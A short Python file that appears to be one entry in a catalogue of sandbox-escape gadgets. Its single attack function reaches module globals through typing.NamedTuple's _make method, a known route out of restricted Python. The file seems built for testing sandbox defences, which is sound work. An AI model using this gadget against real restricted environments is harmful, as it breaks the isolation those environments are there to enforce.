"""Class: module gadget. Source: own find. Escape: typing.NamedTuple makes code from field names."""

import typing


def attack(model, tokenizer, address):
    made = typing.NamedTuple("Made", [("x", int)])
    return made._make.__func__.__globals__
